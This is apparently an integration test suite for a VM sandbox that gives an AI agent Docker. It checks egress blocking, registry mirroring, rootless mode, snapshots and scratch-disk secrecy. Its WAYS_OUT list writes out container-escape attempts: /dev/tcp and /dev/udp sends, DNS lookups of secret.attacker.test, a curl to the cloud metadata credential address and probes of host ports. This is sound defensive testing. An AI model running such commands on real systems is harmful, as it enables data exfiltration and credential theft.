import { closeSync, fstatSync, openSync, readdirSync, readFileSync, readlinkSync, readSync } from "node:fs";
import { join } from "node:path";
import { expect } from "chai";
import { qemuOf } from "../support/qemu-of.ts";
import { ROOT } from "../support/sources.ts";
import type { Ended } from "../support/started.ts";
import { startMachineInWorld, STAYS, type MachineInWorld } from "../support/world/machine-in-world.ts";
import { FAR_AWAY, TCP_PORTS, UDP_PORTS } from "../support/world/world.ts";

const MINUTE = 60_000;
const HELLO = "hello from outside\n";
const PLAIN = "what nobody on the host shall read";
const BATTERY = readFileSync(join(ROOT, "test/support/world/escape.py"), "utf8");
const SMALL_IMAGE = readFileSync(join(ROOT, "test/support/docker-image.sh"), "utf8");
const COMPOSE = `
services:
  web:
    image: small
    command: [/bin/sh, -c, "echo from the web >/index.html; exec /bin/busybox httpd -f -p 80 -h /"]
    ports: ["8080:80"]
  client:
    image: small
    command: [/bin/sh, -c, "until wget -qO- http://web/; do sleep 1; done; sleep 1000"]
    depends_on: [web]
`;

const COUNTS = "while :; do count=$((count + 1)); echo $count >/counting; mv /counting /count; done";
const GOES_ON = "had=$(docker exec counts cat /count); until [ $(docker exec counts cat /count) -gt $had ]; do sleep 0.2; done; echo goes on";

/** Ways out that a container may try; each has to end by itself. */
const WAYS_OUT: Readonly<Record<string, string>> = {
  "a name that is not allowed": "curl -sSkm 10 https://denied.test/; curl -sSm 10 http://denied.test/",
  "every port of an address": TCP_PORTS.map((port) => `timeout 3 bash -c 'echo >/dev/tcp/${FAR_AWAY}/${port}'`).join("; "),
  "datagrams to an address": UDP_PORTS.map((port) => `echo secret >/dev/udp/${FAR_AWAY}/${port}`).join("; "),
  "another name server": `nslookup secret.attacker.test ${FAR_AWAY}`,
  "its own name server, for what is not allowed": "getent hosts secret.attacker.test",
  "a ping": `ping -c 1 -W 2 ${FAR_AWAY}`,
  "the address where clouds serve credentials": "curl -sSm 5 http://169.254.169.254/latest/meta-data/",
  "the host, by the router": "for port in 22 80 111 2375 8080; do timeout 3 bash -c \"echo >/dev/tcp/10.0.2.2/$port\"; done",
  "TLS for a name that is not allowed, at an allowed one's address": "curl -sSkm 10 --connect-to denied.test:443:allowed.test:443 https://denied.test/",
};
/** What a container may be given, and what follows from it here: nothing. */
const KINDS: Readonly<Record<string, string>> = {
  "a container": "",
  "a privileged container in the guest's own network": "--privileged --network host --pid host",
};

describe("Docker in a machine, in a world where every address is a witness", () => {
  let machine: MachineInWorld;

  before(async function () {
    this.timeout(15 * MINUTE);
    machine = await startMachineInWorld({ plugins: { claude: false, docker: true }, docker: { mirror: "https://allowed.test" }, machine: { memory: "3GiB", scratch: "2GiB" } });
    await machine.bash(SMALL_IMAGE);
  });
  after(async () => await machine?.[Symbol.asyncDispose]());

  it("is there for the agent before its first command, with compose and buildx, without sudo", async () => {
    const versions = await machine.bash("docker version --format '{{.Server.Version}}' && docker compose version --short && docker buildx version && id -nG");
    expect(versions).to.match(/^\d+\..*\n\d+\..*\n.*buildx.*\nagent\n$/);
  });

  it("keeps images and containers on the scratch disk", async () => {
    expect(await machine.bash("findmnt -no SOURCE,FSTYPE -T /var/lib/docker", "root")).to.match(/^\/dev\/mapper\/scratch.* ext4$/m);
  });

  it("fetches in a build what is allowed, trusting as the guest does, and leaves nothing of that in the image", async () => {
    const arrived = await machine.arrivingDuring(() => build("RUN curl -sS https://allowed.test/hello >/fetched"));
    expect(arrived.map(({ protocol, what }) => `${protocol} ${what}`)).to.deep.equal(["tcp 127.0.0.1:443", "https allowed.test/hello"]);
    expect(await machine.bash("docker run --rm built cat /fetched")).to.equal(HELLO);
    expect(await machine.bash("docker image inspect built --format '{{.Config.Env}}'")).to.equal("[PATH=/usr/bin:/bin]\n");
  });

  it("fetches in a build nothing that is not allowed", async () => {
    const said = await machine.nothingArrivesDuring(() => build("RUN curl -sSk https://denied.test/hello >/fetched", false));
    expect(said).to.match(/did not complete successfully|exit code/);
  });

  it("pulls through the mirror, and asks nobody else", async () => {
    const arrived = await machine.arrivingDuring(() => machine.bash("docker pull -q mirrored"));
    const asked = arrived.filter(({ protocol }) => protocol === "https").map(({ what }) => what);
    expect(asked.filter((what) => what.startsWith("allowed.test/v2/"))).to.deep.equal(asked).and.to.have.length.greaterThan(2);
    const taken = "printf 'FROM mirrored\n' | docker buildx build -q -o type=local,dest=/tmp/taken - && cat /tmp/taken/mirrored";
    expect(await machine.bash(taken)).to.include("from the mirror\n");
  });

  it("leaves a container's own choice of authorities alone", async () => {
    expect(await machine.bash("docker run --rm -e CURL_CA_BUNDLE=/mine small bash -c 'echo $CURL_CA_BUNDLE'")).to.equal("/mine\n");
  });

  for (const [kind, options] of Object.entries(KINDS)) {
    it(`lets ${kind} reach what is allowed`, async () => {
      expect(await machine.bash(`docker run --rm ${options} small curl -sS https://allowed.test/hello`)).to.equal(HELLO);
    });

    it(`lets nothing else out of ${kind}`, async () => {
      const script = Object.values(WAYS_OUT).map((way) => `(${way})`).join("\n");
      await machine.nothingArrivesDuring(() => machine.start(["docker", "run", "--rm", "-i", ...options.split(" ").filter(Boolean), "small", "bash"], "agent", script).ended);
    });

    // the same as in test/vm/egress.test.ts, where all of them are seen in a place that is open
    it(`lets nothing out of ${kind} by any of several hundred ways`, async () => {
      const python = ["-v", "/usr:/usr:ro", "small", "python3", "-"];
      const { status, stdout, stderr } = await machine.nothingArrivesDuring(() => machine.start(["docker", "run", "--rm", "-i", ...options.split(" ").filter(Boolean), ...python], "agent", BATTERY).ended);
      expect(status, stderr).to.equal(0);
      expect(Object.keys(JSON.parse(stdout) as object)).to.have.length.above(500);
    });
  }

  it("runs two services that compose couples, publishes a port to the guest, and lends the project", async () => {
    const script = `cat >/tmp/compose.yaml; cd /tmp; docker compose -f compose.yaml up -d 2>&1; curl -sS --retry 20 --retry-connrefused --retry-all-errors localhost:8080/
      until docker compose -f compose.yaml logs client | grep -q 'from the web'; do sleep 1; done; docker compose -f compose.yaml down -t 1 2>&1`;
    const { status, stdout, stderr } = await machine.start(["bash", "-c", script], "agent", COMPOSE).ended;
    expect(status, stdout + stderr).to.equal(0);
    expect(stdout).to.include("from the web");
    await machine.bash("docker run --rm -v \"$PWD:/lent\" --user 1000:1000 small bash -c 'echo from a container >/lent/made'");
    expect(readFileSync(join(machine.place.project, "made"), "utf8")).to.equal("from a container\n");
  });

  it("serves programs that use it as testcontainers does: its socket, in a container too, and ports that it chooses", async () => {
    const script = `
      api() { curl -sS --fail-with-body --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' "http://docker/$@"; }
      page='echo from the service >/index.html; exec /bin/busybox httpd -f -p 80 -h /'
      body=$(jq -n --arg page "$page" '{Image: "small", Cmd: ["/bin/sh", "-c", $page], Labels: {"a.test": "1"}, ExposedPorts: {"80/tcp": {}}, HostConfig: {PublishAllPorts: true}}')
      id=$(api containers/create -d "$body" | jq -r .Id)
      api "containers/$id/start" -X POST
      port=$(api "containers/$id/json" | jq -r '.NetworkSettings.Ports["80/tcp"][0].HostPort')
      curl -sS --retry 20 --retry-all-errors --retry-delay 1 "http://localhost:$port/"
      docker run --rm --add-host the.guest:host-gateway small curl -sS "http://the.guest:$port/"
      filter='%7B%22label%22%3A%5B%22a.test%3D1%22%5D%7D'
      docker run --rm -v /var/run/docker.sock:/var/run/docker.sock small curl -sS --unix-socket /var/run/docker.sock "http://docker/containers/json?filters=$filter" | jq -r '.[].Id' | grep -xc "$id"
      api "containers/$id?force=true" -X DELETE
      docker ps -aq --filter label=a.test=1 | wc -l`;
    expect(await machine.bash(`set -euo pipefail; ${script}`)).to.equal("from the service\nfrom the service\n1\n0\n");
  });

  it("has its containers go on after they were held still for a snapshot, each in its own group", async () => {
    await machine.bash(`docker run -d --name counts small sh -c '${COUNTS}'`);
    const facts = "cat /proc/$(docker inspect counts --format '{{.State.Pid}}')/cgroup";
    const before = await machine.bash(facts);
    const { stdout } = await machine.start(["/usr/lib/cloche/hold"], "root", "hold\n").ended;
    expect(stdout).to.equal("ready\nstill\ngoes on\n");
    expect(await machine.bash(`while [ -d /sys/fs/cgroup/cloche-held ]; do sleep 0.1; done; ${facts}; ${GOES_ON}`)).to.equal(`${before}goes on\n`);
    await machine.bash("docker rm -f counts");
  });

  it("leaves of the scratch disk nothing but noise on the host, and no name, running or killed", async () => {
    await machine.bash(`yes '${PLAIN}' | head -c 50M >/scratch/plain; sync`);
    expect(Number(await machine.bash(`grep -c -a -m 1 '${PLAIN}' /dev/mapper/scratch`, "root"))).to.equal(1);
    const qemu = qemuOf(machine.keeper.pid);
    const disk = readdirSync(`/proc/${qemu}/fd`).map((fd) => `/proc/${qemu}/fd/${fd}`).find((link) => readlinkSync(link).startsWith("/scratch-disk"));
    const held = openSync(disk ?? "", "r");
    try {
      expect(fstatSync(held)).to.include({ nlink: 0, size: 2 * 2 ** 30 });
      expect(holds(held, PLAIN)).to.deep.equal({ found: false, enough: true });
      process.kill(qemu, "SIGKILL");
      await machine.keeper.ended;
      expect(holds(held, PLAIN)).to.deep.equal({ found: false, enough: true });
    } finally {
      closeSync(held);
    }
  });

  it("whose engine does not come up ends the session with the end of its log, or not, as docker.required has it", async () => {
    const broken = [{ run: "printf '#!/bin/sh\\necho it is out of order\\n' >/run/broken; chmod 755 /run/broken; mount --bind /run/broken /usr/sbin/dockerd", as: "root", beforeMounts: true }];
    const begin = (required: boolean) =>
      machine.place.cloche(["exec", "--set", `provision=${JSON.stringify(broken)}`, "--set", `docker.required=${required}`, "--", "echo", "the command runs"], { input: "" }).ended;
    const ended = await begin(true);
    expect(ended.status, ended.stderr).to.equal(125);
    expect(ended.stdout).to.equal("");
    expect(ended.stderr).to.include("did not come up").and.include("it is out of order").and.include("docker.required");
    const wentOn = await begin(false);
    expect(wentOn, wentOn.stderr).to.include({ status: 0, stdout: "the command runs\n" });
    expect(wentOn.stderr).to.include("did not come up").and.include("it is out of order");
  });

  /** Builds the image "built" with one step; answers what was said. */
  async function build(step: string, succeeds = true): Promise<string> {
    const script = "docker build --progress plain --no-cache -t built - 2>&1";
    const { status, stdout } = await machine.start(["bash", "-c", script], "agent", `FROM small\n${step}\n`).ended;
    expect(status === 0, stdout).to.equal(succeeds);
    return stdout;
  }
}).timeout(5 * MINUTE);

describe("The agent's own Docker, without root", () => {
  let machine: MachineInWorld;

  before(async function () {
    this.timeout(15 * MINUTE);
    machine = await startMachineInWorld({ plugins: { claude: false, docker: true }, docker: { rootless: true }, machine: { memory: "3GiB" } });
    await machine.bash(SMALL_IMAGE);
  });
  after(async () => await machine?.[Symbol.asyncDispose]());

  it("runs containers whose root is the agent, each with a proc of its own", async () => {
    expect(await machine.bash("docker info --format '{{.SecurityOptions}}'")).to.include("rootless");
    const [map, first] = (await machine.bash("docker run --rm small bash -c 'read -r map </proc/self/uid_map; echo $map; read -r first </proc/1/comm; echo $first'")).split("\n");
    expect({ map, first }).to.deep.equal({ map: "0 1000 1", first: "bash" });
    expect(await machine.bash("stat -c %U /run/docker.sock /var/lib/docker -L; pgrep -u root -x dockerd || echo no engine of root")).to.equal("agent\nagent\nno engine of root\n");
  });

  it("keeps images and containers in at most half of the memory when there is no scratch disk", async () => {
    const [kind, mebibytes] = (await machine.bash("stat -f -c %T /var/lib/docker; df -BM --output=size /var/lib/docker | tail -1")).split("\n");
    expect(kind).to.equal("tmpfs");
    expect(Number.parseInt(mebibytes ?? "", 10)).to.be.within(1, 1536);
  });

  it("has its containers go on after a snapshot, in the session and in the copy, but there for one that the project is lent to; its engine takes orders", async () => {
    await machine.bash(`docker run -d --name counts small sh -c '${COUNTS}'; docker run -d --name lent -v "$PWD:/lent" small sleep 1000; touch ${STAYS}`);
    const facts = "docker inspect counts --format '{{.State.Status}} {{.State.Pid}} {{.State.StartedAt}}'; cat /proc/$(docker inspect counts --format '{{.State.Pid}}')/cgroup";
    const before = await machine.bash(facts);
    const ours = async (...args: readonly string[]): Promise<Ended> => await machine.place.cloche(args, { input: "" }).ended;
    const taken = await ours("snapshot", "take", "far", "--as", "containers");
    expect([taken.status, taken.stderr.includes("held still")], taken.stderr).to.deep.equal([0, false]);
    try {
      const started = await ours("snapshot", "start", "containers", "--name", "copy");
      expect(started.status, started.stderr).to.equal(0);
      for (const [name, state] of [["far", "running"], ["copy", "exited"]] as const) {
        const { stdout, stderr } = await ours("exec", "--session", name, "--", "bash", "-c", `${facts}; ${GOES_ON}; docker inspect lent --format '{{.State.Status}}'; docker rm -f counts`);
        expect(stdout, `${name}: ${stderr}`).to.equal(`${before}goes on\n${state}\ncounts\n`);
      }
      expect((await ours("stop", "copy")).status).to.equal(0);
      expect((await ours("snapshot", "forget", "containers")).status).to.equal(0);
    } finally {
      await machine.bash(`rm ${STAYS}; docker rm -f lent`);
      await ours("stop", "copy");
    }
  });

  it("builds, lends the project and reaches what is allowed, and nothing else", async () => {
    const build = "printf 'FROM small\nRUN curl -sS https://allowed.test/hello >/fetched\n' | docker build -q -t built - && docker run --rm built cat /fetched";
    expect(await machine.bash(build)).to.include(HELLO);
    await machine.bash("docker run --rm -v \"$PWD:/lent\" small bash -c 'echo from a container >/lent/made'");
    expect(readFileSync(join(machine.place.project, "made"), "utf8")).to.equal("from a container\n");
    const script = Object.values(WAYS_OUT).map((way) => `(${way})`).join("\n");
    await machine.nothingArrivesDuring(() => machine.start(["docker", "run", "--rm", "-i", "small", "bash"], "agent", script).ended);
  });
}).timeout(5 * MINUTE);

/** Whether the text stands anywhere in an open file, and whether the file holds as much as was written to it at all. */
function holds(file: number, text: string): { readonly found: boolean; readonly enough: boolean } {
  const chunk = Buffer.alloc(2 ** 20);
  const nothing = Buffer.alloc(chunk.length);
  let written = 0;
  for (let position = 0; ; position += chunk.length - text.length) {
    const bytes = chunk.subarray(0, readSync(file, chunk, 0, chunk.length, position));
    if (bytes.length <= text.length) return { found: false, enough: written > 50 };
    if (bytes.equals(nothing.subarray(0, bytes.length))) continue;
    written += 1;
    if (bytes.includes(text)) return { found: true, enough: true };
  }
}
